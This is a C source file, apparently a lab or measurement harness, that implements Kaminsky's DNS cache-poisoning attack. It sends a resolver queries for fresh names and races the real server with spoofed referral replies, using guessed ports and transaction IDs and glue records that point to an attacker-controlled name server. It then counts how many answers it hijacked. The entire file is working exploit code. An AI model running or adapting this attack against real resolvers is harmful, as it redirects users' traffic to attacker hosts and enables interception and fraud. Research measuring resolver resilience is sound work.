/* Decides the race of Kaminsky's attack: asks a resolver for names that nobody asked for before, and sends forged
 * referrals for each to guessed ports with guessed IDs while the true server still thinks. Prints one line of JSON.
 *
 *	race RESOLVER SERVER FORGER LABEL ZONES FIRST-PORT LAST-PORT IDS QUESTIONS A-SECOND FORGERIES LAG-MS SECONDS
 *	     FIRST-QUESTION
 *
 * Zones are LABEL100., LABEL101., ...; their servers' addresses follow each other from SERVER, 250 in each /24. A name
 * is LABEL, seven digits, zone. FORGERIES are sent for each question, LAG-MS after it. FORGER is the name server that a
 * forged referral leads to; it answers FORGED_ADDRESS. */
#include <arpa/inet.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "bounds.h"
#include "forge.h"

enum { GROUP_US = 3200, LABEL_MAX = 20, NAME_MAX = 80, LAST_WAIT_US = 3000000 };
static const uint8_t FORGED_ADDRESS[4] = {198, 19, 66, 66};

struct race {
	struct in_addr server, forger;
	const char *label;
	unsigned zones, first_port, last_port, ids;
	unsigned long first, questions, forgeries;
	uint64_t gap_us, lag_us, group; /* so many questions in one go, when they come thick */
	int client;
	struct forge forge;
	uint64_t random;
	unsigned long answered, hijacked, servfail;
};

/* The attacker's guesses need to be even, not secret (xorshift64*). */
static uint32_t guess(struct race *race, uint32_t bound)
{
	race->random ^= race->random >> 12;
	race->random ^= race->random << 25;
	race->random ^= race->random >> 27;
	return (uint32_t)((race->random * 0x2545f4914f6cdd1dull >> 32) * bound >> 32);
}

static struct in_addr server_of(const struct race *race, unsigned zone)
{
	uint32_t first = ntohl(race->server.s_addr);
	return (struct in_addr){htonl(first + zone / 250 * 256 + zone % 250)};
}

static uint8_t *put_label(uint8_t *at, const char *text)
{
	size_t len = strlen(text);
	*at = (uint8_t)len;
	memcpy(at + 1, text, len);
	return at + 1 + len;
}

/* The question section about name number n. */
static size_t write_question(const struct race *race, uint8_t *out, unsigned long n)
{
	char text[LABEL_MAX + 12];
	snprintf(text, sizeof(text), "%s%07lu", race->label, n);
	uint8_t *at = put_label(out, text);
	snprintf(text, sizeof(text), "%s%u", race->label, 100 + (unsigned)(n % race->zones));
	at = put_label(at, text);
	memcpy(at, "\0\0\1\0\1", 5);
	return (size_t)(at + 5 - out);
}

static void ask(struct race *race, unsigned long n)
{
	uint8_t wire[12 + NAME_MAX + 11] = {(uint8_t)(n >> 8), (uint8_t)n, 1, 0, 0, 1};
	size_t len = 12 + write_question(race, wire + 12, n);
	(void)!send(race->client, wire, len, MSG_DONTWAIT);
}

/* A referral of the name itself to a server of ours, with glue: in the bailiwick of whoever is asked. */
static size_t write_referral(const struct race *race, uint8_t *out, unsigned long n)
{
	static const uint8_t head[12] = {0, 0, 0x80, 0, 0, 1, 0, 0, 0, 1, 0, 1};
	static const uint8_t ns[] = {0xc0, 12, 0, 2, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, 1, 'n', 0xc0, 12};
	static const uint8_t glue[] = {1, 'n', 0xc0, 12, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4};
	memcpy(out, head, sizeof(head));
	size_t len = sizeof(head) + write_question(race, out + sizeof(head), n);
	memcpy(out + len, ns, sizeof(ns));
	len += sizeof(ns);
	memcpy(out + len, glue, sizeof(glue));
	memcpy(out + len + sizeof(glue), &race->forger, 4);
	return len + sizeof(glue) + 4;
}

static void forge(struct race *race, unsigned long n)
{
	uint8_t reply[FORGE_MAX];
	size_t len = write_referral(race, reply, n);
	struct in_addr server = server_of(race, (unsigned)(n % race->zones));
	for (unsigned long i = 0; i < race->forgeries; i++) {
		uint32_t port = race->first_port + guess(race, race->last_port - race->first_port + 1);
		uint32_t id = guess(race, race->ids);
		uint8_t *dns = forge_next(&race->forge, server, 53, (uint16_t)port, len);
		memcpy(dns, reply, len);
		dns[0] = (uint8_t)(id >> 8);
		dns[1] = (uint8_t)id;
	}
}

/* An answer ends with the address when there is no OPT, and none was asked for. */
static void take_answers(struct race *race)
{
	uint8_t wire[512];
	ssize_t got;
	while ((got = recv(race->client, wire, sizeof(wire), MSG_DONTWAIT)) > 0) {
		if (got < 12)
			continue;
		race->answered++;
		race->servfail += (wire[3] & 15) == 2;
		race->hijacked += wire[7] != 0 && memcmp(wire + got - 4, FORGED_ADDRESS, 4) == 0;
	}
}

/* Questions in groups; each group's forgeries follow when the resolver has had the time to ask. */
static void run(struct race *race)
{
	uint64_t begin_us = bounds_now_us();
	unsigned long asked = 0, forged = 0;
	while (forged < race->questions) {
		uint64_t ask_us = asked < race->questions ? begin_us + asked * race->gap_us : UINT64_MAX;
		uint64_t forge_us = begin_us + forged * race->gap_us + race->lag_us;
		bool is_ask = ask_us <= forge_us;
		bounds_sleep_until_us(is_ask ? ask_us : forge_us);
		unsigned long *done = is_ask ? &asked : &forged, end = *done + race->group;
		for (; *done < end && *done < race->questions; (*done)++)
			is_ask ? ask(race, race->first + *done) : forge(race, race->first + *done);
		forge_flush(&race->forge);
		take_answers(race);
	}
	for (uint64_t end_us = bounds_now_us() + LAST_WAIT_US; bounds_now_us() < end_us && race->answered < asked;) {
		usleep(10000);
		take_answers(race);
	}
	printf("{\"asked\": %lu, \"answered\": %lu, \"hijacked\": %lu, \"servfail\": %lu, \"forged\": %lu, "
	       "\"seconds\": %.3f}\n",
		asked, race->answered, race->hijacked, race->servfail, race->forge.sent,
		(double)(bounds_now_us() - begin_us) / 1e6);
}

static int open_client(struct in_addr resolver)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53), .sin_addr = resolver};
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), room = 4 << 20;
	if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
		perror("socket");
		exit(1);
	}
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &room, sizeof(room));
	return fd;
}

int main(int argc, char *argv[])
{
	static struct race race = {.random = 0x9e3779b97f4a7c15ull};
	bounds_check("race");
	if (argc != 15 || strlen(argv[4]) > LABEL_MAX) {
		fprintf(stderr, "usage: race RESOLVER SERVER FORGER LABEL ZONES FIRST-PORT LAST-PORT IDS QUESTIONS "
				"A-SECOND FORGERIES LAG-MS SECONDS FIRST-QUESTION\n");
		return 2;
	}
	struct in_addr resolver = bounds_address(argv[1]);
	race.server = bounds_address(argv[2]);
	race.forger = bounds_address(argv[3]);
	race.label = argv[4];
	race.zones = (unsigned)bounds_number(argv[5], 1, 800);
	race.first_port = (unsigned)bounds_number(argv[6], 1, 65535);
	race.last_port = (unsigned)bounds_number(argv[7], race.first_port, 65535);
	race.ids = (unsigned)bounds_number(argv[8], 1, 65536);
	race.questions = bounds_number(argv[9], 1, 1000000);
	race.gap_us = 1000000 / bounds_number(argv[10], 1, 20000);
	race.group = 1 + GROUP_US / race.gap_us;
	race.forgeries = bounds_number(argv[11], 1, 100000);
	race.lag_us = bounds_number(argv[12], 0, 1000) * 1000;
	bounds_seconds(argv[13]);
	race.first = bounds_number(argv[14], 0, 9000000);
	race.random ^= bounds_now_us();
	race.client = open_client(resolver);
	forge_open(&race.forge, resolver);
	run(&race);
	return 0;
}
